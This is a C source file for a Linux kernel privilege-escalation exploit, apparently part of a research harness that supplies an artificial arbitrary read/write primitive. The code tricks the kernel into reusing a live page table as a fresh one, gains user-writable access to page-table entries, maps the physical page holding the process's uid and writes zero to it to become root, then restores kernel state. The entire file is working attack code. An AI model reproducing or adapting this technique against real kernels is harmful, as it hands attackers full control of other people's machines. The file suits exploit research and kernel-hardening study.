/*
 * The kernel takes a page table that is in use for an empty one. Seen from above, what it leads to
 * are page tables; seen from the range that it had before, pages to read and write.
 */
#include "attack.h"

#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

enum { FRAME_BYTES = 8, FRAME_NUMBER = 4, LEVELS = 4, ENTRIES = 512, TRIES = 8 };
enum { PRESENT_WRITABLE_USER = 7 };
enum { INDEX = ENTRIES / 2, PAGES_ABOVE = 2 };
#define TABLE_BYTES (2ul << 20)     /* what a page table covers */
#define DIRECTORY_BYTES (1ul << 30) /* what a table of those covers */
#define ENTRY_FRAME 0xffffffffff000ul

static struct bw_leak leak;

static void store32(uint64_t at, uint64_t value)
{
	attack_check("vuln_store", bw_vuln_store(at, value, sizeof(uint32_t)));
}

static uint64_t alias(uint64_t pfn) { return leak.direct_map_base + pfn * BW_PAGE_SIZE; }

static uint64_t pfn_of_alias(uint64_t address)
{
	return (address - leak.direct_map_base) / BW_PAGE_SIZE;
}

/* Where this address's entry of a level is. */
static uint64_t entry_place(uint64_t address, int level)
{
	uint64_t table = leak.root, place = 0;

	for (int at = LEVELS; at >= level; at--) {
		place = alias(table) +
			(address >> (12 + 9 * (at - 1)) & (ENTRIES - 1)) * sizeof(uint64_t);
		table = attack_entry_frame((uint64_t)bw_vuln_read(place));
	}
	return place;
}

/* The word that says which empty page table comes next. */
static uint64_t next_table_place(void)
{
	for (int i = 0; i < TRIES; i++) {
		uint32_t nr = (uint32_t)bw_vuln_read(leak.spare_tables.nr);
		uint64_t place = leak.spare_tables.slots + (nr - 1) * sizeof(uint32_t);

		if (nr != 0 && (uint32_t)bw_vuln_read(place) != 0) {
			return place;
		}
		/* it leaves its page tables behind */
		if (fork() == 0) {
			_exit(0);
		}
		wait(NULL);
	}
	attack_skip("this processor keeps no empty page tables");
}

/* All pages of one page table, of which only the first is present. */
static char *map_beside(void)
{
	uintptr_t start = (uintptr_t)mmap(NULL, 2 * TABLE_BYTES, PROT_READ | PROT_WRITE,
					  MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	char *pages = (char *)((start + TABLE_BYTES - 1) & -TABLE_BYTES);

	*(volatile char *)pages = 0;
	return pages;
}

/* Pages in 1 GiB that has no page tables; entry INDEX of a table of tables leads to theirs. */
static char *map_above(const char *beside)
{
	uintptr_t start = ((uintptr_t)beside & -DIRECTORY_BYTES) - DIRECTORY_BYTES;
	char *pages = mmap((void *)(start + INDEX * TABLE_BYTES), PAGES_ABOVE * BW_PAGE_SIZE,
			   PROT_READ | PROT_WRITE,
			   MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);

	if (pages == MAP_FAILED) {
		attack_skip("there is something 1 GiB below");
	}
	return pages;
}

/* Gives the range above the empty table that it was to have, and the other one to its own range
 * alone. */
static void put_right(uint64_t above, uint64_t shared, uint64_t spare)
{
	uint64_t directory = entry_place(above, 3);
	uint64_t entry = (uint64_t)bw_vuln_read(directory);
	uint64_t index = INDEX * sizeof(uint64_t);

	store32(leak.frames + spare * FRAME_BYTES + FRAME_NUMBER, leak.root);
	bw_vuln_write(alias(spare) + index, (uint64_t)bw_vuln_read(alias(shared) + index));
	bw_vuln_write(directory, (entry & ~ENTRY_FRAME) | spare * BW_PAGE_SIZE);
	bw_vuln_write(alias(shared) + index, 0);
}

int main(void)
{
	volatile uint64_t *table;
	struct attack_frame_books books;
	uint64_t place, shared, spare;
	char *beside, *above;

	attack_begin(&leak, 1, 0);
	beside = map_beside();
	above = map_above(beside);
	place = next_table_place();
	table = (volatile uint64_t *)(void *)(beside + INDEX * BW_PAGE_SIZE);
	shared = pfn_of_alias(entry_place((uintptr_t)beside, 1));
	spare = (uint32_t)bw_vuln_read(place);
	attack_say("the next empty page table is frame 0x%lx, says the word at 0x%lx: 0x%lx from "
		   "now on, which is the one of 0x%lx",
		   spare, place, shared, (uintptr_t)beside);
	attack_frame_books_read(&leak, shared, &books);
	attack_frame_books_no_table(&books);
	store32(place, shared);

	*(volatile char *)above = 0;
	if (attack_entry_frame(table[0]) != attack_pfn(above)) {
		attack_skip("the table came from elsewhere");
	}
	attack_say("the page at 0x%lx is the page table of 0x%lx: its first entry is 0x%lx",
		   (uintptr_t)table, (uintptr_t)above, table[0]);
	table[1] = (leak.uid_pa & ENTRY_FRAME) | PRESENT_WRITABLE_USER;
	*(volatile uint32_t *)(void *)(above + BW_PAGE_SIZE + leak.uid_pa % BW_PAGE_SIZE) = 0;
	table[1] = 0;
	put_right((uintptr_t)above, shared, spare);
	attack_frame_books_restore(&books);
	return attack_finish();
}
